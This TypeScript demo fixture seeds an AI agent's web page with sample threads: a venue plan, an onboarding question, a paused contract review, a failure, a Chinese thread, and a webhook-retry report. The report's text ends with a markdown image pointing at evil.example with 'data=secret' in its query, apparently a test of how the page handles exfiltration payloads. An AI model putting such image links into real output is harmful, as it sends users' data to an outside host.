import type { Store } from '../../src/agent/ports/store.ts'
import { createSystemClock } from '../../src/clock.ts'
import { startWeb } from '../adapters/web/support.ts'
import { redisServer } from '../support/programs.ts'
import { startRedis } from '../support/redis.ts'
import { createStage } from './stage.ts'

type Stage = ReturnType<typeof createStage>

const ana = { id: 'ana', name: 'Ana Silva' }
const ben = { id: 'ben', name: 'Ben' }
const minute = 60_000
const now = Date.now()

const plan = (items: string[], done: number) => ({
  planInitialized: true,
  planItems: items.map((text, index) => ({ text, done: index < done })),
  currentPlanIndex: done,
})

const venue = [
  'Collect what is known about the three venues',
  'Compare price, size and travel time',
  'Check which dates are free',
]
const city = { step: 3, question: 'Which city?', text: 'Lisbon', author: ana }

/**
 * Threads of the web channel in every state that its page can show, newest first: running with a changed plan, asking,
 * in Chinese, paused, a report with a table and code, failed. Nothing works on them; what one writes stays waiting.
 */
export async function playDemo(store: Store): Promise<void> {
  const stage = (thread: string) =>
    createStage(store, { workspace: 'web:local', channel: 'web', thread })
  await running(stage('running'))
  await asking(stage('asking'))
  await report(stage('report'))
  await pausing(stage('pausing'))
  await failing(stage('failing'))
  await chinese(stage('chinese'))
}

async function running(stage: Stage): Promise<void> {
  const { hear, begin, move, ask, answer, runId } = stage
  const at = now - 4 * minute
  await hear('Compare the three venues and book a date for the offsite', ana, at, {
    kind: 'started',
    runId,
  })
  await begin('Compare the three venues and book a date for the offsite', ana, at)
  await move(
    at + 2_000,
    plan([...venue, 'Book the venue in Porto', 'Tell the team'], 1),
    'running',
    null,
    { kind: 'status', status: 'running', reason: null },
    {
      kind: 'model_call',
      contract: 'plan',
      ok: true,
      problem: null,
      ms: 812,
      promptTokens: 640,
      completionTokens: 92,
    },
    { kind: 'planned', items: venue },
  )
  const question = await ask(
    'Which city should the offsite be in?',
    ['Lisbon', 'Porto', 'Madrid'],
    ana,
    at + 20_000,
  )
  await answer(question, 'Lisbon', ana, at + 60_000)
  await hear('Please keep it under 4,000 euros in total', ben, at + 70_000, {
    kind: 'joined',
    runId,
  })
  await move(
    at + 80_000,
    {
      ...plan(
        [
          ...venue,
          'Hold the best date in Lisbon for a week',
          'Send the invitation with travel times',
          'Tell the team',
        ],
        2,
      ),
      lastChange: {
        added: ['Hold the best date in Lisbon for a week', 'Send the invitation with travel times'],
        dropped: ['Book the venue in Porto'],
        because: city,
      },
      intent: {
        step: 7,
        tool: 'internet_search',
        input: 'LX Factory event space availability June',
      },
    },
    'running',
    null,
    { kind: 'heard', entryId: 'e', as: 'answer' },
    {
      kind: 'model_call',
      contract: 'replan',
      ok: true,
      problem: null,
      ms: 954,
      promptTokens: 1_240,
      completionTokens: 118,
    },
    { kind: 'replanned', items: venue, change: null },
    { kind: 'thought', decision: 'act', index: 2, step: 7 },
    { kind: 'acting', tool: 'internet_search', step: 7 },
  )
}

async function asking(stage: Stage): Promise<void> {
  const { hear, begin, move, ask, runId } = stage
  const at = now - 9 * minute
  await hear('Plan a one-week onboarding for our new designer and list what to prepare', ben, at, {
    kind: 'started',
    runId,
  })
  await begin('Plan a one-week onboarding for our new designer', ben, at)
  await move(
    at + 3_000,
    {
      ...plan(
        [
          'List what the designer needs to know',
          'Draft the week, day by day',
          'Add what to prepare as to-dos',
        ],
        1,
      ),
      awaitingClarification: true,
    },
    'awaiting_clarification',
  )
  await ask(
    'Does the new designer work on site or remotely in the first week?',
    ['On site', 'Remotely', 'Half and half, three days on site and two at home'],
    ben,
    at + 9_000,
  )
}

async function report(stage: Stage): Promise<void> {
  const { hear, begin, move, say, runId } = stage
  const at = now - 26 * 60 * minute
  await hear(
    'What is a good way to retry a failed webhook? Show me code and compare the options.',
    ana,
    at,
    {
      kind: 'started',
      runId,
    },
  )
  await begin('How to retry a failed webhook', ana, at)
  await move(
    at + 40_000,
    plan(['Collect the usual options', 'Compare them', 'Write an example'], 3),
    'succeeded',
    `How to retry a failed webhook: done.

## Recommendation
Use **exponential backoff with jitter**, keyed by the event's id, and give up after a day.

| Option | Load on the receiver | Time to recover | Notes |
|---|---:|---:|---|
| Fixed pause | high | 1 min | simple, but everyone returns at once and knocks the receiver over again |
| Exponential backoff | low | up to 1 h | the usual choice |
| Backoff with jitter | lowest | up to 1 h | spreads the retries |
| Queue with a dead letter | low | by hand | when nothing may be lost |

1. Store the event before you send it.
2. Send it with \`Idempotency-Key\`.
3. On \`429\` or \`5xx\`, wait and try again:

\`\`\`ts
export async function deliver(event: WebhookEvent, attempt = 0): Promise<void> {
  const response = await fetch(event.url, { method: 'POST', body: JSON.stringify(event), headers: { 'Idempotency-Key': event.id, 'Content-Type': 'application/json' } })
  if (response.ok) return
  const pause = Math.min(3_600_000, 1_000 * 2 ** attempt) * (0.5 + Math.random() / 2)
  await queue.add('deliver', { event, attempt: attempt + 1 }, { delay: pause })
}
\`\`\`

> A receiver that is down for an hour should not cost you an event.

See https://example.com/webhooks and ![a diagram](https://evil.example/p.png?data=secret).`,
  )
  await hear('Great, thank you! Can you also say what a *dead letter* is?', ana, at + 90_000, {
    kind: 'answered',
  })
  await say(
    'A **dead letter** is a message that could not be delivered after all tries. It is put aside, so that somebody can look at it and send it again.',
    at + 95_000,
  )
}

async function pausing(stage: Stage): Promise<void> {
  const { hear, begin, move, runId } = stage
  const at = now - 3 * 60 * minute
  await hear('Check all 40 supplier contracts for a notice period', ben, at, {
    kind: 'started',
    runId,
  })
  await begin('Check all 40 supplier contracts for a notice period', ben, at)
  await move(
    at + 60_000,
    plan(
      [
        'List the contracts',
        'Read contracts 1 to 20',
        'Read contracts 21 to 40',
        'Write the summary',
      ],
      2,
    ),
    'paused',
    `Paused: Check all 40 supplier contracts for a notice period

**Done so far:** List the contracts; Read contracts 1 to 20

**Why I stopped:** I hit my limit of 20 steps before finishing.

**What next:** Write \`continue\` to go on from here, or say what should change.`,
  )
}

async function failing(stage: Stage): Promise<void> {
  const { hear, begin, move, runId } = stage
  const at = now - 2 * 24 * 60 * minute
  await hear('Search for venues in Lisbon', ana, at, { kind: 'started', runId })
  await begin('Search for venues in Lisbon', ana, at)
  await move(
    at + 60_000,
    plan(['Search the web', 'List what was found'], 0),
    'failed',
    'Search for venues in Lisbon: not done.\n\nI tried several times and couldn’t reach the language model.',
  )
}

async function chinese(stage: Stage): Promise<void> {
  const { hear, begin, move, ask, answer, runId } = stage
  const li = { id: 'li', name: '李雷' }
  const at = now - 50 * minute
  await hear('比较三个场地，并为团建定一个日期', li, at, { kind: 'started', runId })
  await begin('比较三个场地，并为团建定一个日期', li, at)
  await move(
    at + 2_000,
    plan(['整理三个场地的资料', '比较价格、大小和路程', '确认可用日期', '预订并通知大家'], 1),
    'running',
  )
  const question = await ask('团建放在哪个城市？', ['杭州', '苏州', '上海'], li, at + 5_000)
  await answer(question, '杭州', li, at + 30_000)
  await move(
    at + 40_000,
    {
      ...plan(['整理三个场地的资料', '比较价格、大小和路程', '预订杭州的场地', '通知大家'], 2),
      lastChange: {
        added: ['预订杭州的场地', '通知大家'],
        dropped: ['确认可用日期'],
        because: { step: 2, question: '哪个城市', text: '杭州', author: li },
      },
    },
    'running',
  )
}

// `node test/fakes/demo.ts [port] [empty]` serves the page with these threads, or with none, for looking at it.
if (import.meta.main) {
  const redis = await startRedis(redisServer ?? 'redis-server')
  const web = await startWeb(redis.connect(), {
    clock: createSystemClock(),
    port: Number(process.argv[2] ?? 3999),
  })
  if (process.argv[3] !== 'empty') await playDemo(web.store)
  console.log(web.url)
}
